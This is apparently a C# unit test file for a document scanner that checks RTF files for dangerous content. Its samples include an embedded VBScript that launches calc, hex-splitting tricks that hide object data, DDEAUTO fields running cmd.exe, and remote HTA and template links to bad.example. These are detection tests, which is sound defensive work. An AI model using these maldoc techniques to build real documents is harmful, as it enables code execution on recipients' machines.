using System.Text;

namespace Bezel.Documents.Tests;

public class RtfTests
{
    private static DocumentInspection Inspect(string rtf) => DocumentInspection.Inspect("x.doc", null, SampleFiles.Latin(rtf));

    private static string[] Details(DocumentInspection seen, FactKind kind) => [.. seen.Facts.Where(f => f.Kind == kind && f.Where.Length == 0).Select(f => f.Detail)];

    private static byte[] Ole1(string name, byte[] native) => [.. BitConverter.GetBytes(0x501), .. BitConverter.GetBytes(2), .. OfficeSamples.OleText(name), .. new byte[8], .. BitConverter.GetBytes(native.Length), .. native];

    private static string Hex(byte[] bytes) => Convert.ToHexStringLower(bytes);

    private static readonly byte[] Script = "CreateObject(\"WScript.Shell\").Run \"calc\"\r\nDim a\r\n"u8.ToArray();

    [Fact]
    public void Opens_a_packaged_file()
    {
        DocumentInspection seen = Inspect("{\\rtf1 before{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata " + Hex(Ole1("Package", OfficeSamples.Package("bill.vbs", Script))) + "}{\\result shown}} after}");
        Details(seen, FactKind.EmbeddedFile).ShouldBe(["Package", "bill.vbs"]);
        Details(seen, FactKind.ObjectRunsByItself).ShouldBe(["Package"]);
        InnerFile file = seen.Files.Single();
        (file.Name, file.Type).ShouldBe(("bill.vbs", FileType.Script));
        file.Content.ToArray().ShouldBe(Script);
        seen.Text.ShouldStartWith("beforeshown after");
    }

    /// <summary>Ways in which the digits of an object are written so that they are not found.</summary>
    public static TheoryData<string> Tricks =>
    [
        "{0}",
        "\r\n{0a}\r\n \t{0b}",
        "{0a}{{}}{0b}",
        "{{{0a}}}{{{{{0b}}}}}",
        "{0a}\\par\\q99 \\u-12345 {0b}",
        "{0a}{{\\*\\unknown 41414141}}{0b}",
        "{0a}{{\\mmathPr 414141}}{0b}",
        "{0a}\\'41\\'42{0b}",
        "{0a}\\~\\_\\-{0b}",
        "{0a}xyz;!{0b}",
        "{0a}\\bin0 {0b}",
        "\\bin{1} {2}",
        "{0a}{{\\*\\objclass foo}}{0b}",
    ];

    [Theory]
    [MemberData(nameof(Tricks))]
    public void Finds_the_data_of_an_object_however_it_is_written(string trick)
    {
        byte[] data = Ole1("Package", OfficeSamples.Package("bill.vbs", Script));
        string hex = Hex(data).ToUpperInvariant();
        // An odd cut: one half of a byte before, one after.
        string written = trick.Replace("{0a}", hex[..33]).Replace("{0b}", hex[33..]).Replace("{0}", hex).Replace("{1}", "" + data.Length).Replace("{2}", Encoding.Latin1.GetString(data)).Replace("{{", "{").Replace("}}", "}");
        DocumentInspection seen = Inspect("{\\rtf1{\\object\\objemb{\\*\\objdata " + written + "}}}");
        seen.Files.Select(f => f.Name).ShouldContain("bill.vbs");
        seen.Files.Single(f => f.Name == "bill.vbs").Content.ToArray().ShouldBe(Script);
    }

    [Fact]
    public void Names_objects_that_are_known_for_holes()
    {
        Details(Inspect("{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata " + Hex(Ole1("eqUATion.3", new byte[20])) + "}}}"), FactKind.VulnerableObject).ShouldBe(["eqUATion.3"]);
        byte[] compound = new CompoundBuilder().Class(new Guid("0002CE02-0000-0000-C000-000000000046")).Stream("x", [1]).Build();
        Details(Inspect("{\\rtf1{\\object\\objemb{\\*\\objdata " + Hex(Ole1("Word.Document.8", compound)) + "}}}"), FactKind.VulnerableObject).ShouldBe(["Equation.3"]);
        Details(Inspect("{\\rtf1{\\object\\objemb{\\*\\objclass Word.Document.12}{\\*\\objdata " + Hex(Ole1("Word.Document.12", SampleFiles.CompoundFile("x"))) + "}}}"), FactKind.VulnerableObject).ShouldBeEmpty();
    }

    [Fact]
    public void Finds_a_compound_file_behind_a_broken_header()
    {
        DocumentInspection seen = Inspect("{\\rtf1{\\object{\\*\\objdata 0105" + Hex([9, 9, 9, .. SampleFiles.CompoundFile("WordDocument")]) + "}}}");
        seen.Files.ShouldContain(f => f.Type == FileType.Doc);
        seen.Has(FactKind.Obfuscated).ShouldBeTrue();
    }

    [Fact]
    public void Says_where_a_linked_object_comes_from()
    {
        byte[] linked = [.. BitConverter.GetBytes(0x501), .. BitConverter.GetBytes(1), .. OfficeSamples.OleText("Word.Document.8"), .. OfficeSamples.OleText("\\\\bad.example\\x\\a.doc"), .. OfficeSamples.OleText("")];
        Details(Inspect("{\\rtf1{\\object\\objautlink{\\*\\objdata " + Hex(linked) + "}}}"), FactKind.ExternalContent).ShouldBe(["\\\\bad.example\\x\\a.doc"]);
        byte[] moniker = new CompoundBuilder().Stream("\u0001Ole", [1, 0, 0, 2, 1, 0, 0, 0, .. new byte[30], .. Encoding.Unicode.GetBytes("https://bad.example/a.hta\0")]).Build();
        DocumentInspection seen = Inspect("{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata " + Hex(Ole1("OLE2Link", moniker)) + "}}}");
        Details(seen, FactKind.ExternalContent).ShouldContain("https://bad.example/a.hta");
        seen.Links.ShouldContain("https://bad.example/a.hta");
    }

    [Fact]
    public void Says_what_fields_start_and_load()
    {
        Details(Inspect("{\\rtf1{\\field{\\*\\fldinst {DDEAUTO} c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k calc\"}{\\fldrslt x}}}"), FactKind.DynamicDataExchange).ShouldBe(["c:\\windows\\system32\\cmd.exe /k calc"]);
        // The word is made of codes by a field inside the field.
        Details(Inspect("{\\rtf1{\\field{\\*\\fldinst {{\\field{\\*\\fldinst QUOTE 68 68 69 65 85 84 79}{\\fldrslt zzz}}} \"cmd\" \"/c calc\"}{\\fldrslt x}}}"), FactKind.DynamicDataExchange).ShouldBe(["cmd /c calc"]);
        DocumentInspection picture = Inspect("{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE \\\\d \"https://track.example/p.png\" \\\\* MERGEFORMAT}{\\fldrslt}}}");
        Details(picture, FactKind.ExternalContent).ShouldBe(["https://track.example/p.png"]);
        DocumentInspection link = Inspect("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://pay.example/\" \\\\o \"tip\"}{\\fldrslt pay}}}");
        link.Links.ShouldBe(["https://pay.example/"]);
        link.Facts.ShouldBeEmpty();
        // The same word as text is nothing.
        Inspect("{\\rtf1 DDEAUTO cmd.exe and a QUOTE 68 69}").Facts.ShouldBeEmpty();
    }

    [Fact]
    public void Says_which_template_comes_from_elsewhere()
    {
        Details(Inspect("{\\rtf1{\\*\\template https://bad.example/t.dotm}x}"), FactKind.ExternalTemplate).ShouldBe(["https://bad.example/t.dotm"]);
        Inspect("{\\rtf1{\\*\\template C:\\\\Templates\\\\Normal.dotm}x}").Has(FactKind.ExternalTemplate).ShouldBeFalse();
        Details(Inspect("{\\rtf1{\\sp{\\sn pibName}{\\sv https://track.example/p.png}}}"), FactKind.ExternalContent).ShouldBe(["https://track.example/p.png"]);
    }

    [Fact]
    public void Is_known_by_the_beginning_that_Word_accepts()
    {
        DocumentInspection seen = Inspect("{\\rt\\ansi hello}");
        seen.TrueType.ShouldBe(FileType.Rtf);
        seen.Has(FactKind.Obfuscated).ShouldBeTrue();
        Inspect("{\\rtf1 hello}").Has(FactKind.Obfuscated).ShouldBeFalse();
        // Binary bytes do not make it something else.
        DocumentInspection.Inspect(null, null, (byte[])[.. "{\\rtf1 hello\\bin4 "u8, 0, 0, 0, 0, .. "}"u8]).TrueType.ShouldBe(FileType.Rtf);
    }

    [Fact]
    public void Reads_letters_in_the_character_set_of_their_font()
    {
        Inspect("{\\rtf1\\ansi\\ansicpg1252{\\fonttbl{\\f0 A;}{\\f1\\fcharset204 B;}{\\f2\\fcharset238 C;}}\\f0\\'e9 \\f1\\'ef\\'f0\\'e8 {\\f2\\'b3}\\plain\\'e9\\u8364 ?}").Text.ShouldBe("é при łé€");
    }

    [Fact]
    public void Carries_pictures_once()
    {
        byte[] png = [0x89, (byte)'P', (byte)'N', (byte)'G', 13, 10, 26, 10, .. new byte[100]];
        DocumentInspection seen = Inspect("{\\rtf1{\\*\\shppict{\\pict\\pngblip " + Hex(png) + "}}{\\nonshppict{\\pict\\wmetafile8 " + Hex(new byte[200]) + "}}}");
        seen.Files.Single().Type.ShouldBe(FileType.Png);
        seen.Text.ShouldBe("");
    }

    [Fact]
    public void Stays_bounded_whatever_is_nested()
    {
        foreach (string piece in (string[])["{", "{\\object", "{\\*\\objdata 01", "{\\field{\\*\\fldinst QUOTE ", "{\\pict 00", "\\bin2147483647 ", "{\\fonttbl{\\f1", "\\u1 \\uc32 "])
        {
            DocumentInspection seen = Inspect("{\\rtf1 text" + string.Concat(Enumerable.Repeat(piece, 200_000)));
            seen.Text.ShouldStartWith("text");
            seen.Defects.ShouldNotContain(d => d.Kind == DocumentDefectKind.ReaderFailed);
        }
    }
}
